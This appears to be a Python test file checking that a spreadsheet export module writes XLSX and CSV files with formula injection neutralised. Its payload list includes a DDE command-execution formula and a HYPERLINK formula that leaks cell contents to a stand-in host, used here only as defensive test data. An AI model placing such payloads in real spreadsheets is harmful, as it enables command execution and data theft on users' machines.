"""Exports open in Excel, never run, and come back as they were."""

import csv
import io
from datetime import UTC, date, datetime

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from python_calamine import CalamineWorkbook

from sentra.kernel.sheets import Column, Sheet, SheetRefused, csv_lines, from_csv, to_csv, write_xlsx

AT = datetime(2026, 11, 22, 8, 0, tzinfo=UTC)
TEXT = [Column("Nama")]
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1",
    "\uff20x", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.test?x="&A1,"klik")', "  =1+1", "'=1+1", "''=1",
    '"=1+1"', "=1+1;=2+2", "x;=1+1", "x,=1+1", "{=SUM(A1)}", "http://evil.test", "mailto:a@b.test",
    "+62 812-3456-7890", "007", "_x0041_", "  spasi  ", "baris\nbaru", "1e5", "'Aisyah",
]  # fmt: skip


def xlsx(columns, rows):
    out = io.BytesIO()
    write_xlsx(out, [Sheet("Data", columns, rows)], made_at=AT)
    return out.getvalue()


def cells(content):
    return list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))


def back(content):
    return CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()[1:]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_is_a_formula_and_all_comes_back(payload):
    ((cell,),) = cells(xlsx(TEXT, [[payload]]))
    assert cell.data_type == "s"
    assert cell.hyperlink is None
    assert cell.number_format == "@"
    assert unescape(cell.value) == payload  # openpyxl leaves the _x000D_ of ECMA-376 §22.9.2.19 as it is


def test_titles_are_neutralised_too():
    book = openpyxl.load_workbook(io.BytesIO(xlsx([Column("=1+1")], [])))
    assert book.active["A1"].data_type == "s"


def test_the_reader_of_sentra_agrees():
    content = xlsx(TEXT, [[payload] for payload in PAYLOADS])
    assert [row[0] for row in back(content)] == PAYLOADS


def test_kinds():
    kinds = [
        ("Nama", "text"),
        ("Jumlah", "number"),
        ("Nilai", "idr"),
        ("Tanggal", "date"),
        ("Kosong", "text"),
    ]
    columns = [Column(title, kind) for title, kind in kinds]
    ((name, count, value, day, none),) = cells(
        xlsx(columns, [["Siti", 3, 1_250_000, date(2026, 8, 17), None]])
    )
    assert (name.value, count.value, value.value, none.value) == ("Siti", 3, 1_250_000, None)
    assert value.number_format == "#,##0"
    assert day.value == datetime(2026, 8, 17)
    assert day.is_date


def test_the_same_table_gives_the_same_bytes():
    assert xlsx(TEXT, [["a"]]) == xlsx(TEXT, [["a"]])


def test_many_rows_are_streamed():
    content = xlsx([Column("Nama"), Column("Nilai", "idr")], ((f"Anggota {n}", n) for n in range(20_000)))
    read = back(content)
    assert len(read) == 20_000
    assert read[-1] == ["Anggota 19999", 19_999]


@pytest.mark.parametrize(
    ("row", "code"),
    [(["x" * 32_768], "text_too_long"), ([2**53 + 1], "number_too_large"), (["a", "b"], "columns")],
)
def test_what_excel_would_cut_is_refused(row, code):
    with pytest.raises(SheetRefused) as refused:
        xlsx(TEXT, [row])
    assert refused.value.code == code


@pytest.mark.parametrize("name", ["a/b:c*d?[e]", "'x'", "", "n" * 50])
def test_any_name_makes_a_tab(name):
    out = io.BytesIO()
    write_xlsx(out, [Sheet(name, TEXT, [])], made_at=AT)
    assert openpyxl.load_workbook(out).sheetnames


def read_csv(lines, separator=";"):
    return list(
        csv.reader(io.StringIO("".join(lines).removeprefix("\ufeff"), newline=""), delimiter=separator)
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_starts_with_nothing_that_runs(payload):
    _title, (cell,) = read_csv(csv_lines(TEXT, [[payload]]))
    assert not cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
    assert from_csv(cell) == payload


def test_csv_read_with_the_wrong_separator_cuts_nothing_loose():
    _title, row = read_csv(csv_lines(TEXT, [["x,=1+1"]]), separator=",")
    assert row == ["x,=1+1"]


def test_csv_numbers_and_dates_are_plain():
    columns = [Column("Nilai", "idr"), Column("Tanggal", "date"), Column("Kosong")]
    lines = list(csv_lines(columns, [[-1_250, date(2026, 8, 17), None]]))
    assert lines[0].startswith("\ufeff")
    assert lines[1] == '-1250;"2026-08-17";""\r\n'


def test_csv_refuses_a_row_that_does_not_fit():
    with pytest.raises(SheetRefused):
        list(csv_lines(TEXT, [["a", "b"]]))


@given(text=st.text())
def test_csv_marking_is_undone_exactly(text):
    assert from_csv(to_csv(text)) == text


@settings(deadline=None)  # writes and reads a file: the machine's moods are no fault of ours
@given(text=st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\0"), max_size=200))
def test_any_text_comes_back_from_xlsx(text):
    content = xlsx([Column("Nama"), Column("Tetap")], [[text, "x"]])
    assert back(content) == [[text, "x"]]
